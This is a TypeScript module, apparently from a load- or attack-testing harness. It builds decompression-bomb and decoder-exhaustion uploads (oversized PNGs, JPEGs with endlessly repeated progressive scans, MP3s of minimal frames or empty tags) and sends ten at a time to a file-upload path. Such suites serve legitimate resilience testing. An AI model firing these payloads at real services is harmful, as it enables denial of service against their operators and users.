import sharp from 'sharp';
import { largePng } from '../png.ts';
import { fileShot, times } from '../shots.ts';
import type { Attack, Target } from '../target.ts';

function pictures(target: Target, file_name: string, bytes: Buffer) {
  return times(10, (n) => fileShot(target, n, { path: 'storage/upload', file_name, bytes }));
}

/** A JPEG whose passes over the picture are sent again and again, up to what a file may weigh. */
async function manyPasses(side: number): Promise<Buffer> {
  const create = { width: side, height: side, channels: 3, background: '#08f' } as const;
  const file = await sharp({ create }).jpeg({ progressive: true }).toBuffer();
  const last = file.lastIndexOf(Buffer.from([0xff, 0xda]));
  const scan = file.subarray(last, -2);
  const count = Math.max(0, Math.floor((2_000_000 - file.length) / scan.length));
  return Buffer.concat([file.subarray(0, -2), ...times(count, () => scan), file.subarray(-2)]);
}

/** Frames of the least length: as many as a file may hold. */
function shortFrames(): Buffer {
  // MPEG 2.5, layer 3, 8 kbit/s, 12 kHz: 48 bytes.
  const frame = Buffer.concat([Buffer.from([0xff, 0xe3, 0x14, 0xc4]), Buffer.alloc(44)]);
  return Buffer.alloc(5_000_000, frame);
}

export const media: readonly Attack[] = [
  {
    name: '10 PNG that claim 30,000 by 30,000',
    at_once: 10,
    makeShots: (target) => pictures(target, 'a.png', largePng(30_000, { lines: 10 })),
  },
  {
    name: '10 PNG of 7,000 by 7,000 in 16 bits, interlaced',
    at_once: 10,
    makeShots: (target) => pictures(target, 'a.png', largePng(7_000, { deep: true, interlaced: true })),
  },
  {
    name: '10 PNG of 7,000 by 7,000 in 16 bits',
    at_once: 10,
    makeShots: (target) => pictures(target, 'a.png', largePng(7_000, { deep: true })),
  },
  {
    name: '10 JPEG of 4,100 by 4,100 in passes without end',
    at_once: 10,
    makeShots: async (target) => pictures(target, 'a.jpg', await manyPasses(4_100)),
  },
  {
    name: '10 JPEG of 7,000 by 7,000 in passes without end',
    at_once: 10,
    makeShots: async (target) => pictures(target, 'a.jpg', await manyPasses(7_000)),
  },
  {
    name: '10 MP3 of the shortest frames',
    at_once: 10,
    makeShots: (target) => pictures(target, 'a.mp3', shortFrames()),
  },
  {
    name: '10 MP3 of half a million empty tags',
    at_once: 10,
    makeShots: (target) =>
      pictures(
        target,
        'a.mp3',
        Buffer.alloc(5_000_000, Buffer.from([0x49, 0x44, 0x33, 4, 0, 0, 0, 0, 0, 0])),
      ),
  },
];
